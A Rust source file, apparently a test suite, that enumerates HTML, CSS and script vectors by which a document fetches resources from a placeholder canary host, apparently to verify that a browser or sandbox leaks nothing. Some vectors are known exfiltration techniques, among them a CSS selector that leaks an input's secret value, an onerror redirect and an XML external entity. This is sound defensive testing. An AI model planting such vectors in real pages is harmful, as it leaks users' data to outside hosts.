//! What a document loads by markup: pictures, media, scripts, styles and what styles name.

use super::{Vector, html, script};

pub(super) fn vectors() -> Vec<Vector> {
    [pictures(), media(), scripts(), styles(), declarations(), icons()].into_iter().flatten().collect()
}

fn pictures() -> Vec<Vector> {
    vec![
        html("image", "<img src='http://{canary}/image'>"),
        html("image over https", "<img src='https://{canary}/image'>"),
        html("image with credentials mode", "<img crossorigin src='http://{canary}/cors'>"),
        html("image set of an image", "<img srcset='http://{canary}/one 1x, http://{canary}/two 2x'>"),
        html("picture source", "<picture><source srcset='http://{canary}/source'><img src='/blank'></picture>"),
        html("lazy image", "<img loading=lazy src='http://{canary}/lazy'>"),
        html("image of a base", "<base href='http://{canary}/'><img src=relative>"),
        html("input image", "<input type=image src='http://{canary}/input'>"),
        html("background of the body", "<body background='http://{canary}/body'>x"),
        html("background of a cell", "<table><td background='http://{canary}/cell'>x</table>"),
        html("poster", "<video poster='http://{canary}/poster'></video>"),
        html("image in a drawing", "<svg><image href='http://{canary}/svg' width=9 height=9 /></svg>"),
        html("image in a drawing by xlink", "<svg><image xlink:href='http://{canary}/xlink' width=9 height=9 /></svg>"),
        html(
            "image in a filter",
            "<svg width=99 height=99><filter id=f><feImage href='http://{canary}/filter'/></filter><rect width=50 height=50 filter='url(#f)'/></svg>",
        ),
        html("symbol of another drawing", "<svg><use href='http://{canary}/use#a'/></svg>")
            .never("the browser uses symbols of the same origin alone"),
        script("image by script", "new Image().src = 'http://{canary}/script'"),
        script("image written into the document", "document.write('<img src=\"http://{canary}/write\">')"),
        script(
            "image parsed from text",
            "const d = document.createElement('div'); d.innerHTML = '<img src=\"http://{canary}/parsed\">'",
        ),
        html(
            "image of an error handler",
            "<img src='data:,' onerror=\"this.onerror = null; this.src = 'http://{canary}/error'\">",
        ),
        html(
            "image in a shadow root",
            "<div><template shadowrootmode=closed><img src='http://{canary}/shadow'></template></div>",
        ),
    ]
}

fn media() -> Vec<Vector> {
    vec![
        html("video", "<video preload=auto src='http://{canary}/video'></video>"),
        html("video source", "<video preload=auto><source src='http://{canary}/source'></video>"),
        html("audio", "<audio preload=auto src='http://{canary}/audio'></audio>"),
        html(
            "subtitles",
            "<video crossorigin src='/blank'><track default kind=captions src='http://{canary}/track'></video>",
        ),
        script("audio by script", "const a = new Audio('http://{canary}/audio'); a.preload = 'auto'; a.load()"),
    ]
}

fn scripts() -> Vec<Vector> {
    vec![
        html("script", "<script src='http://{canary}/script'></script>"),
        html("script that waits", "<script defer src='http://{canary}/defer'></script>"),
        html("module", "<script type=module src='http://{canary}/module'></script>"),
        html("module import", "<script type=module>import 'http://{canary}/import'</script>"),
        script("dynamic import", "import('http://{canary}/dynamic').catch(() => 0)"),
        html(
            "dynamic import of JSON",
            "<script>import('http://{canary}/json', {with: {type: 'json'}}).catch(() => 0)</script>",
        ),
        html(
            "import map",
            "<script type=importmap>{\"imports\": {\"out\": \"http://{canary}/map\"}}</script><script type=module>import 'out'</script>",
        ),
        html("script in a drawing", "<svg><script href='http://{canary}/svg'></script></svg>"),
        html(
            "transformation of a document",
            "<iframe src='{files}/page.xml'></iframe>",
        )
        .file("page.xml", "<?xml version='1.0'?><?xml-stylesheet type='text/css' href='http://{canary}/xml.css'?><page>x</page>"),
        html(
            "external entity",
            "<iframe src='{files}/page.xml'></iframe>",
        )
        .file("page.xml", "<?xml version='1.0'?><!DOCTYPE page SYSTEM 'http://{canary}/page.dtd' [<!ENTITY e SYSTEM 'http://{canary}/entity'>]><page>&e;</page>")
        .never("the browser loads no external entities"),
    ]
}

fn styles() -> Vec<Vector> {
    let sheet =
        |name: &str, rules: &str| html(format!("style: {name}"), format!("<style>{rules}</style><div class=x>x</div>"));
    vec![
        html("stylesheet", "<link rel=stylesheet href='http://{canary}/sheet'>"),
        html("stylesheet for print", "<link rel=stylesheet media=print href='http://{canary}/print'>"),
        html("alternate stylesheet", "<link rel='alternate stylesheet' title=other href='http://{canary}/alternate'>"),
        sheet("import", "@import 'http://{canary}/import';"),
        sheet("import behind an import", "@import '{files}/next.css';")
            .file("next.css", "@import url(http://{canary}/second);"),
        sheet("font", "@font-face { font-family: z; src: url(http://{canary}/font) } .x { font-family: z }"),
        script("font by script", "new FontFace('z', 'url(http://{canary}/face)').load().catch(() => 0)"),
        html(
            "style: selector that spells a secret",
            "<style>input[value^=s] { background: url(http://{canary}/s) }</style><input value=secret>",
        ),
        script(
            "style by script",
            "document.body.style.background = 'url(http://{canary}/style)'; document.body.append('x')",
        ),
        script(
            "constructed stylesheet",
            "const s = new CSSStyleSheet(); s.replaceSync('body { background: url(http://{canary}/constructed) }');
             document.adoptedStyleSheets = [s]; document.body.append('x')",
        ),
        sheet("filter of another document", ".x { filter: url(http://{canary}/f#a) }")
            .never("the browser takes filters of its own origin alone"),
        script("painting worklet", "CSS.paintWorklet.addModule('http://{canary}/paint').catch(() => 0)"),
    ]
}

fn declarations() -> Vec<Vector> {
    [
        ("background", "background: url(http://{canary}/b)"),
        ("border image", "border: 9px solid; border-image: url(http://{canary}/b) 30"),
        ("image set", "background: image-set(url(http://{canary}/i) 1x)"),
        ("cross fade", "background: -webkit-cross-fade(url(http://{canary}/c), url(http://{canary}/c), 50%)"),
        ("list", "display: list-item; list-style-image: url(http://{canary}/l)"),
        ("mask", "mask-image: url(http://{canary}/m)"),
        ("outline of a shape", "float: left; shape-outside: url(http://{canary}/s)"),
        ("content", "content: url(http://{canary}/c)"),
        ("variable", "--u: url(http://{canary}/v); background: var(--u)"),
        ("reflection", "-webkit-box-reflect: below 0 url(http://{canary}/r)"),
        ("cursor", "cursor: url(http://{canary}/c), auto"),
        ("clip path", "clip-path: url(http://{canary}/p#a)"),
    ]
    .into_iter()
    .map(|(name, declaration)| {
        html(
            format!("declaration: {name}"),
            format!("<style>.x {{ width: 50px; height: 50px; {declaration} }}</style><div class=x>x</div>"),
        )
    })
    .collect()
}

fn icons() -> Vec<Vector> {
    let link = |rel: &str| {
        html(format!("link: {rel}"), format!("<link rel='{rel}' href='http://{{canary}}/icon'>"))
            .never("a browser without a window has no place for it and does not load it")
    };
    ["icon", "apple-touch-icon", "mask-icon", "manifest", "search"].map(link).into()
}
